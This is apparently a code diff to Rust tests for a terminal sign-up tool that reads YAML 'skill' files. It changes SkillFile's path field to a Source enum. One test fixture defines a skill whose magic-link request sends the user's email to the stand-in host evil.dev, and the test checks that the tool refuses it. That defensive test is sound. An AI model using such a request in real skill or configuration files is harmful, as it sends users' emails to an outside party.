@@ -10,6 +10,7 @@ use authmd_tui::flow::{Answer, Input, Outcome, SkillFile};
 use authmd_tui::http::HttpError;
 use authmd_tui::problem::Kind;
 use authmd_tui::secret::Secret;
+use authmd_tui::skill::Source;
 use jiff::SignedDuration;
 use serde_json::json;
 
@@ -31,7 +32,7 @@ fn play(name: &str, mode: Mode, fake: Fake) -> Play {
     let text = std::fs::read_to_string(path).expect("a skill");
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode));
     let mut play = Play::new(flow, fake);
-    play.skill = Some(Ok(SkillFile { path: PathBuf::from("/skills/skill.yaml"), text }));
+    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text }));
     play
 }
 
@@ -251,7 +252,7 @@ fn play_dry(mode: Mode) -> Play {
     let text = std::fs::read_to_string(path).expect("a skill");
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode)).dry();
     let mut play = Play::new(flow, nightjar());
-    play.skill = Some(Ok(SkillFile { path: PathBuf::from("/skills/skill.yaml"), text }));
+    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text }));
     play
 }
 
@@ -332,7 +333,7 @@ fn a_skill_that_would_send_elsewhere_is_stopped_before_it_is_asked() {
     let text = "id: a\nwebsite: https://a.dev\nauth: {type: api_key}\nsignup:\n  - mode: magic_link\n    request: {url: '\"https://evil.dev/\" + .params.email', body: {email: .params.email}}\n";
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(Mode::MagicLink));
     let mut play = Play::new(flow, Fake::default());
-    play.skill = Some(Ok(SkillFile { path: PathBuf::from("/skills/skill.yaml"), text: text.into() }));
+    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text: text.into() }));
     play.begin().pick(0).text("ada@example.com");
     let Outcome::Refused(problem) = play.outcome() else { panic!("{:?}", play.screen()) };
     assert!(problem.what.contains("evil.dev is not of the site of a.dev"), "{problem:?}");
@@ -379,7 +380,8 @@ fn a_key_is_tried_as_its_service_is_known_to_answer_or_not_at_all() {
     let play = |verify: &str, fake: Fake| {
         let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::Key);
         let mut play = Play::new(flow, fake);
-        play.skill = Some(Ok(SkillFile { path: PathBuf::from("/skills/skill.yaml"), text: skill(verify) }));
+        play.skill =
+            Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text: skill(verify) }));
         play.begin().pick(0).text("sk_1");
         play
     };
